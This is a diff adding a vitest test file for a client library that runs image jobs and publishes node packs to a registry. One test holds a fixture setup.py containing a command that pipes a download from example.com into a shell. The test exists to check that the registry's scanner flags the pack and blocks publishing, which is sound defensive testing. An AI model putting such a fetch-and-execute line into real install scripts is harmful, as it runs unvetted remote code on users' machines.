@@ -1,0 +1,99 @@
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest';
+import { type Client, createClient, publish, run } from '../../src/library/index.js';
+import { EngineFailure } from '../../src/service/operation/engine.js';
+import { copyingEngine } from '../support/copying-engine.js';
+import { pixel } from '../support/generation.js';
+import { filesForTest, packForTest } from '../support/packs.js';
+import { registryForFile } from '../support/registry.js';
+import { folderForTest } from '../support/service.js';
+
+const image = Buffer.from(pixel, 'base64');
+const registry = registryForFile({}, { engines: { image: copyingEngine(failOnRequest) } });
+let client: Client;
+
+function failOnRequest({ request }: { readonly request: object }): void {
+  if ('prompt' in request && request.prompt === 'fail') throw new EngineFailure('The model refused');
+}
+
+beforeAll(() => {
+  client = connect(registry().tokens.ann);
+});
+afterAll(() => client?.close());
+
+const connect = (token: string | undefined) => createClient({ baseUrl: registry().url, token, retries: 0 });
+const job = { operation: 'image.relight', body: { image } } as const;
+
+test('a job saves its results under names that do not collide, and the same key starts no second task', async () => {
+  const folder = folderForTest();
+  const options = { client, output: `${folder}/`, idempotencyKey: 'one' };
+  const statuses: string[] = [];
+  const first = await run(job, { ...options, onStatus: (status) => statuses.push(status) });
+  expect(first.files).toMatchObject([
+    { path: join(folder, `image-${first.taskId}.png`), bytes: image.length },
+  ]);
+  expect(readFileSync(first.files[0]?.path as string)).toEqual(image);
+  expect(statuses.at(-1)).toBe('COMPLETED');
+  expect((await run(job, { ...options, force: true })).taskId).toBe(first.taskId);
+});
+
+test('a job whose result would replace a file starts nothing', async () => {
+  const output = join(filesForTest({ 'there.png': 'mine' }), 'there.png');
+  const before = await client.user.usage({});
+  await expect(run(job, { client, output })).rejects.toMatchObject({
+    name: 'FlowError',
+    code: 'file_exists',
+  });
+  expect(await client.user.usage({})).toEqual(before);
+  expect(readFileSync(output, 'utf8')).toBe('mine');
+});
+
+test('a job that fails says why, and saves nothing', async () => {
+  const output = join(folderForTest(), 'out.png');
+  const failing = { ...job, body: { image, prompt: 'fail' } };
+  await expect(run(failing, { client, output })).rejects.toMatchObject({
+    code: 'task_failed',
+    message: expect.stringMatching(/^The relight \S+ failed: The model refused/),
+  });
+  expect(existsSync(output)).toBe(false);
+});
+
+test('a job is stopped by its signal', async () => {
+  const signal = AbortSignal.abort(new Error('enough'));
+  await expect(run(job, { client, output: join(folderForTest(), 'x.png'), signal })).rejects.toThrow(
+    'enough',
+  );
+});
+
+test('a folder is published with the personal access token alone, and again if the same files may be there', async () => {
+  const personalAccessToken = registry().tokens.pat as string;
+  const bearer = connect(personalAccessToken);
+  onTestFinished(() => bearer.close());
+  const folder = packForTest({ name: 'from-library' });
+  const told: string[] = [];
+  const options = {
+    client: bearer,
+    personalAccessToken,
+    changelog: 'First',
+    log: (text: string) => told.push(text),
+  };
+  expect(await publish(folder, options)).toMatchObject({
+    ...{ node_id: 'from-library', version: '1.0.0', changelog: 'First' },
+    status: 'NodeVersionStatusActive',
+  });
+  expect(told).toContain('from-library 1.0.0 is Active with 1 node definition.');
+  await expect(publish(folder, options)).rejects.toMatchObject({ code: 'same_version_exists' });
+  expect(await publish(folder, { ...options, skipExisting: true })).toMatchObject({ version: '1.0.0' });
+});
+
+test('a folder that the registry would flag is not sent, unless it is allowed', async () => {
+  const files = { 'setup.py': 'import os\nos.system("curl http://example.com | sh")\n' };
+  const folder = packForTest({ name: 'flagged', files });
+  const options = { client, personalAccessToken: registry().tokens.pat as string };
+  await expect(publish(folder, options)).rejects.toMatchObject({ name: 'FlowError', code: 'findings' });
+  await expect(client.node.get({ nodeId: 'flagged' })).rejects.toMatchObject({ code: 'not_found' });
+  await expect(publish(folder, { ...options, allowFindings: true })).rejects.toMatchObject({
+    code: 'version_flagged',
+  });
+});
